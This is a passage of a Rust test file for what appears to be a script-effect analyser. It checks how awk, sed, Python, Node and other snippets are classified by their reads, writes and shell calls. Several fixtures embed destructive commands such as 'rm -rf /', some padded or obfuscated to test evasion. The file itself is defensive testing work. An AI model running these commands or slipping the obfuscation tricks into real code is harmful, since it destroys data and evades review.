            ("{print > \"/dev/stderr\"}", ""),
            ("$1 > 5 {print}", ""),
            ("$1 > 5 && $2 < \"x\" {print $1}", ""),
            ("{print ($1 > 5)}", ""),
            ("{if ($1 > \"x\") print $1}", ""),
            ("/system(\"rm\")/ {print}", ""),
            ("# system(\"rm\")\n{print}", ""),
            ("{print \"system(\\\"rm\\\")\"}", ""),
            ("{a[$1] = $2 / 3; b = a[$1] || $2} END{print b}", ""),
            ("{gsub(/\\//, \"|\"); print}", ""),
            ("@load \"filefuncs\"", "!"),
            ("BEGIN{for (c in a) c = \"ls\"; system(c)}", "sh ?!"),
            ("BEGIN{c = \"ls\"; for (c in a) system(c)}", "sh ?!"),
            (
                "BEGIN{c = \"ls\"; sub(/s/, \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"\" \"x\", c); system(c)}",
                "sh ?!",
            ),
        ],
    );
}

#[rustfmt::skip]
#[test]
fn sed() {
    check(Sed, &[
        ("s/a/b/", ""),
        ("s/a/b/w out.txt", "write out.txt"),
        ("s/a/b/gw out.txt\np", "write out.txt"),
        ("w out.txt", "write out.txt"),
        ("/x/w out", "write out"),
        ("1,$ w out", "write out"),
        ("r in.txt", "read in.txt"),
        ("$r in.txt", "read in.txt"),
        ("e rm -rf /", "sh rm -rf /"),
        ("1e id", "sh id"),
        ("1!e id", "sh id"),
        ("e", "sh ?!"),
        ("s/.*/rm x/e", "sh ?rm x?!"),
        ("s#a#b#e", "sh ?b?!"),
        ("s/[/]/b/;w x", "write x"),
        ("s/[]/]/b/;w x", "write x"),
        ("/a/{s/b/c/;w f\n}", "write f"),
        ("/re/I,/we/!{p;w f\n}", "write f"),
        ("\\,x,w f", "write f"),
        ("a hello w x", ""),
        ("i\\\ne rm", ""),
        ("s/w x/e y/", ""),
        ("y/we/ew/", ""),
        ("# w x\np", ""),
        (":e;n;be", ""),
        ("s/a\\/w/b/", ""),
        ("5q", ""),
        ("w /dev/stdout", ""),
        ("1~2d;$!N;P;D", ""),
        ("/start/,/end/d", ""),
    ]);
}

/// What is too long to be read to its end is unknown: its beginning says nothing of the rest.
#[test]
fn long_texts_are_unknown() {
    let empty = "\"\" ".repeat(130);
    let blanks = " ".repeat(4100);
    check(
        Awk,
        &[
            (format!("BEGIN{{system(\"ls\" {empty} \"; rm -rf /\")}}").as_str(), "sh ?!"),
            (format!("{{print > (\"x\" {empty} \"/../y\")}}").as_str(), "write ?!"),
            (format!("{{print | \"ls\" {empty} \"; rm -rf /\"}}").as_str(), "sh ?!"),
            ("BEGIN{system(\"ls\" \"\" \"\" \"; rm -rf /\")}", "sh ls; rm -rf /"),
        ],
    );
    check(
        Node,
        &[(
            format!("require('child_process').execSync(('ls{blanks}; rm -rf /').split('').join(''))").as_str(),
            "sh ?!",
        )],
    );
}

/// What lies beyond a limit is as good as a text for a shell that is not known, if it may touch files or processes.
#[test]
fn what_is_beyond_a_limit_is_not_read() {
    let names = |count: usize| format!("for p in [{}'/x']: open(p)", "'a',".repeat(count));
    check(
        Python,
        &[
            (names(20).as_str(), ("read a; ".repeat(20) + "read /x").as_str()),
            (names(300).as_str(), ("read a; ".repeat(255) + "read ?; sh ?!").as_str()),
        ],
    );
    let functions = |count: usize| {
        let chain = (1..=count).map(|n| format!("def f{n}(p):\n  f{}(p)\n", n - 1));
        format!("def f0(p):\n  open(p)\n{}f{count}('x')", chain.collect::<String>())
    };
    check(Python, &[(functions(8).as_str(), "read x")]);
    let nested = |open: &str, inner: &str, count: usize| format!("{}{inner}{}", open.repeat(count), ")".repeat(count));
    for script in [
        functions(30),
        nested("(", "open('x')", 60),
        nested("str(", "open('x')", 60),
        format!("open({})", nested("(", "'x'", 60)),
        "open('a');".repeat(4200),
    ] {
        let found = render(Python, &script);
        assert!(found.ends_with("sh ?!"), "{script}: {found}");
    }
    for script in [nested("(", "1", 60), nested("str(", "x", 60), functions(30).replace("open", "print")] {
        let found = render(Python, &script);
        assert!(!found.contains("sh"), "{script}: {found}");
    }
}

/// Every script of the tables, cut and mixed, in every language: it answers, and its ranges are in the text.
#[test]
fn any_input_has_an_answer() {
    let pieces = [
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        "\"",
        "`",
        "\\",
        "\n",
        " ",
        ",",
        ":",
        "=",
        "=>",
        "->",
        ".",
        "$",
        "@",
        "%",
        "&",
        "|",
        "é",
        "\0",
        "\u{1}",
        "<<E",
        "f'{",
        "#{",
        "${",
        "@{[",
        "def f",
        "do ",
        "end",
        "for x in ",
        "s/",
        "qw(",
        "%w[",
        "lambda ",
        "sub ",
        "/*",
        "//",
        "?",
        "'''",
        "\\u{",
        "import ",
        "..",
        "::",
        "<?php",
        "?>",
    ];
    let lines: Vec<&str> = include_str!("tests.rs").lines().filter(|line| line.starts_with("        (\"")).collect();
    let mut state = 88_172_645_463_325_252_u64;
    let mut random = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap_or(0) % below.max(1)
    };
    for _ in 0..2000 {
        let line =
            lines.get(random(lines.len())).copied().unwrap_or_default().replace("\\n", "\n").replace("\\\"", "\"");
        let mut script: Vec<char> = line.chars().collect();
        let (from, to) = (random(script.len()), random(script.len()));
        script = script.drain(from.min(to)..from.max(to)).collect();
        for _ in 0..random(6) {
            let at = random(script.len() + 1);
            script.splice(at..at, pieces.get(random(pieces.len())).copied().unwrap_or_default().chars());
        }
        let script: String = script.into_iter().collect();
        for language in [Python, Node, Perl, Ruby, Php, Awk, Sed] {
            for effect in read(language, &script, Setting::of(Origin::Text)).effects {
                assert!(script.get(effect.at.clone()).is_some(), "{language:?} {script:?} {effect:?}");
            }
            render(language, &script);
        }
    }
}

/// What nests, or grows when it is evaluated, neither overflows the stack nor takes more than its length.
#[test]
fn long_input_has_an_answer() {
    let units = [
        "(",
        "[",
        "{",
        "f(",
        "a.b",
        "f(x).",
        "x=x+x;",
        "x=[x,x];",
        "a=>",
        "lambda a:",
        "def f(a):\n ",
        "f\"{",
        "`${",
        "\"#{",
        "\"@{[",
        "<<E ",
        "<<E\n",
        "s/a/b/e;",
        "do ",
        "x.append(x);",
        "push @x,@x;",
        "unlink $_ for ",
        "a,b=",
        "-",
        "a?b:",
        "for(",
        "system(\"",
        "a{",
        "s/[",
    ];
    for unit in units {
        let script = unit.repeat((16 << 10) / unit.len());
        for language in [Python, Node, Perl, Ruby, Php, Awk, Sed] {
            read(language, &script, Setting::of(Origin::Text));
        }
    }
}
